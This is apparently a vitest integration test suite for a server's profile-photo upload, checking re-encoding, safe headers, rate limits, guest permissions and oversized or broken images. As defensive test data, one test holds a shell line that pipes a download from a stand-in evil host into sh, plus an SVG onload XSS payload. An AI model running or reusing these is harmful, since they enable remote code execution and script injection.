/**
 * Profile photos on the real server: a PNG is resized to a square and re-encoded (the served
 * image's own dimensions are checked), served with safe headers and a versioned URL; a script
 * renamed .png, a GIF, an image too large in pixels, and a broken image are refused with the
 * type found; a guest may see a photo but not upload one.
 */
import sharp from 'sharp'
import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SignedIn } from '../../protocol/api.ts'
import { PROFILE_LIMITS, type Profile } from '../../protocol/profiles.ts'
import { addMember, createWorkspace } from '../support/factories.ts'
import { httpClient, type HttpClient } from '../support/http.ts'
import { startLivekit, type TestLivekit } from '../support/livekit.ts'
import { startServer, type TestServer } from '../support/server.ts'

describe('profile photos', () => {
  let livekit: TestLivekit
  let server: TestServer
  let http: HttpClient
  let owner: SignedIn, ada: SignedIn, guest: SignedIn

  const upload = async (who: SignedIn, bytes: Buffer, type = 'image/png') => {
    const res = await fetch(`${server.url}/api/workspaces/${who.workspace.id}/profile/photo`, {
      method: 'PUT', headers: { authorization: `Bearer ${who.session.token}`, 'content-type': type }, body: new Uint8Array(bytes),
    })
    return { status: res.status, body: (await res.json()) as { photoUrl?: string; message?: string; field?: string } }
  }
  const download = (who: SignedIn, url: string) => fetch(server.url + url, { headers: { authorization: `Bearer ${who.session.token}` } })
  const png = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#c2255c' } }).png().toBuffer()

  beforeAll(async () => {
    livekit = await startLivekit()
    server = await startServer({ livekit })
    http = httpClient(server.url)
    owner = await createWorkspace(http, 'Photos')
    ada = await addMember(http, owner)
    guest = await addMember(http, owner, 'guest', ['room_meeting'])
  })
  afterAll(async () => {
    await server?.stop()
    await livekit?.stop()
  })

  it('resizes a PNG to a re-encoded square and serves it with safe headers at a versioned URL', async () => {
    const res = await upload(ada, await png(900, 600))
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    const url = res.body.photoUrl!
    expect(url).toMatch(new RegExp(`^/api/workspaces/${ada.workspace.id}/photos/${ada.member.id}\\?v=[A-Za-z0-9]+$`))
    // Guests see avatars too.
    const served = await download(guest, url)
    expect(served.status).toBe(200)
    expect(served.headers.get('content-type')).toBe('image/webp')
    expect(served.headers.get('x-content-type-options')).toBe('nosniff')
    expect(served.headers.get('content-security-policy')).toContain('sandbox')
    expect(served.headers.get('cache-control')).toContain('immutable')
    const meta = await sharp(Buffer.from(await served.arrayBuffer())).metadata()
    expect(meta).toMatchObject({ format: 'webp', width: PROFILE_LIMITS.photoSize, height: PROFILE_LIMITS.photoSize })
    // The profile and the member's photo agree; a new upload is a new URL.
    expect((await http.get<Profile>(`/api/workspaces/${ada.workspace.id}/profiles/${ada.member.id}`, owner.session.token)).body.photoUrl).toBe(url)
    const again = await upload(ada, await sharp({ create: { width: 64, height: 64, channels: 4, background: '#1971c2' } }).webp().toBuffer(), 'application/octet-stream')
    expect(again.status).toBe(200)
    expect(again.body.photoUrl).not.toBe(url)
    // The old URL now answers the new photo, but not for keeps.
    expect((await download(owner, url)).headers.get('cache-control')).toBe('private, no-cache')
    expect((await server.app.store.photoVersions(ada.workspace.id)).get(ada.member.id)).toBe(new URL(again.body.photoUrl!, server.url).searchParams.get('v'))
  })

  it('refuses a script renamed .png, with the type it found', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example.com/x | sh\n')
    const res = await upload(owner, script, 'image/png')
    expect(res.status).toBe(415)
    expect(res.body).toMatchObject({ field: 'body', message: expect.stringContaining('text/plain') })
    const html = await upload(owner, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/png')
    expect(html.status).toBe(415)
    expect((await upload(owner, Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'))).body.message).toContain('image/gif')
    expect((await http.get<Profile>(`/api/workspaces/${owner.workspace.id}/profiles/${owner.member.id}`, owner.session.token)).body.photoUrl).toBeNull()
  })

  it('refuses an image too large in pixels before decoding it, and a broken one', async () => {
    // A real PNG header claiming 20000 × 20000 pixels, and nothing after it.
    const header = Buffer.from((await png(1, 1)).subarray(0, 33))
    header.writeUInt32BE(20_000, 16)
    header.writeUInt32BE(20_000, 20)
    const huge = await upload(owner, header)
    expect(huge.status).toBe(400)
    expect(huge.body.message).toContain('20000×20000')
    const broken = await upload(owner, Buffer.concat([(await png(10, 10)).subarray(0, 40), Buffer.alloc(100, 7)]))
    expect(broken.status).toBe(415)
    expect((await upload(owner, Buffer.alloc(0))).status).toBe(400)
    // Bytes beyond the bound are not even read.
    expect((await upload(owner, Buffer.alloc(PROFILE_LIMITS.photoBytes + 1, 0x89))).status).toBe(413)
  })

  it('limits how often one member uploads', async () => {
    const bo = await addMember(http, owner)
    const small = await png(8, 8)
    for (let i = 0; i < PROFILE_LIMITS.photoRate.limit; i++) expect((await upload(bo, small)).status).toBe(200)
    const refused = await upload(bo, small)
    expect(refused.status).toBe(429)
    // Others are not held back by it.
    expect((await upload(ada, small)).status).toBe(200)
  })

  it('lets a guest see photos but not upload one, and removes a photo', async () => {
    expect((await upload(guest, await png(10, 10))).status).toBe(403)
    const gone = await fetch(`${server.url}/api/workspaces/${ada.workspace.id}/profile/photo`, { method: 'DELETE', headers: { authorization: `Bearer ${ada.session.token}` } })
    expect(gone.status).toBe(200)
    expect((await download(owner, `/api/workspaces/${ada.workspace.id}/photos/${ada.member.id}`)).status).toBe(404)
  })

  it('keeps the bytes of the current photo only: a new one replaces the old one’s, and removing it leaves none', async () => {
    const bea = await addMember(http, owner)
    const stored = () => {
      const dir = join(server.dataDir, 'attachments')
      return existsSync(dir) ? readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).length : 0
    }
    const before = stored()
    expect((await upload(bea, await png(20, 20))).status).toBe(200)
    expect(stored()).toBe(before + 1)
    expect((await upload(bea, await png(30, 30))).status).toBe(200)
    expect(stored()).toBe(before + 1)
    const gone = await fetch(`${server.url}/api/workspaces/${bea.workspace.id}/profile/photo`, { method: 'DELETE', headers: { authorization: `Bearer ${bea.session.token}` } })
    expect(gone.status).toBe(200)
    expect(stored()).toBe(before)
  })
})
